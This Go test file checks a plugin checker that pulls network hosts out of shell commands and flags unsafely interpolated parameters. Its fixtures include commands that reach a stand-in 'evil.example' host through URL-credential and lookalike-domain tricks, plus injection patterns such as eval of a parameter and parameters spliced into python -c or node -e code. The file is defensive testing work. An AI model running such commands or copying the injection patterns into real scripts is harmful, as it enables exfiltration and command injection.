package plugins

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

func TestHosts(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{`pip install --user pandas && npm install left-pad socket.io`, ""},
		{`curl -fsSL https://github.com/a/b.tar.gz -o b.tar.gz`, "github.com"},
		{`curl "https://api.example.com/items/$PARAM_ID?q=$PARAM_Q"`, "api.example.com"},
		{`wget -qO- http://example.com:8080/x`, "example.com"},
		{`sh -c "curl https://a.example.com && wget https://b.example.com/x"`, "a.example.com b.example.com"},
		{`python3 -c "urllib.request.urlopen('http://evil.example')"`, "evil.example"},
		{`curl https://pypi.org:x@evil.example/`, "evil.example"},
		{`curl HTTPS://EVIL.EXAMPLE./`, "evil.example"},
		{`git clone git@evil.example:a/b.git`, "evil.example"},
		{`curl "https://$H.example.com/" https://${B}/`, ""}, // only the network policy can decide
		{"index-url = https://mirror.example/simple\nregistry=http://user:pw@npm.example:4873/", "mirror.example npm.example"},
	} {
		if got := strings.Join(Hosts(tc.text), " "); got != tc.want {
			t.Errorf("Hosts(%q) = %q, want %q", tc.text, got, tc.want)
		}
	}
	got := HostsOutside("https://registry.npmjs.org https://npmjs.org.evil.example https://github.com", PackageHosts())
	if !slices.Equal(got, []string{"npmjs.org.evil.example"}) {
		t.Errorf("outside are %q", got)
	}
}

func TestParamUses(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{`cat "$PARAM_FILE"`, `[]`},
		{`cat ${PARAM_FILE} "$PARAM_FILE"`, `[{PARAM_FILE false}]`},
		{`F=$PARAM_FILE; cat "$F" > "$PARAM_OUT"`, `[]`},
		{`[[ $PARAM_A == x ]] && case $PARAM_B in x) echo hi ;; esac`, `[]`},
		{`cd $HOME/p && python3 -c "pd.read_csv('$PARAM_FILE')"`, `[{PARAM_FILE true}]`},
		{`python3 -c 'import sys; print(sys.argv[1])' "$PARAM_FILE"`, `[]`},
		{"cat <<END\n$PARAM_A\nEND", `[]`},
		{`timeout 5 bash -ec "ls $PARAM_DIR"`, `[{PARAM_DIR true}]`},
		{`eval "$PARAM_CODE"`, `[{PARAM_CODE true}]`},
		{`node -e "f('$PARAM_A')"`, `[{PARAM_A true}]`},
		{`for f in $PARAM_LIST; do cat "$f"; done`, `[{PARAM_LIST false}]`},
	} {
		file, err := parseCommand(tc.text)
		if err != nil {
			t.Fatal(err)
		}
		if _, unsafe := paramUses(file); fmt.Sprint(unsafe) != tc.want {
			t.Errorf("paramUses(%q) = %v, want %s", tc.text, unsafe, tc.want)
		}
	}
}
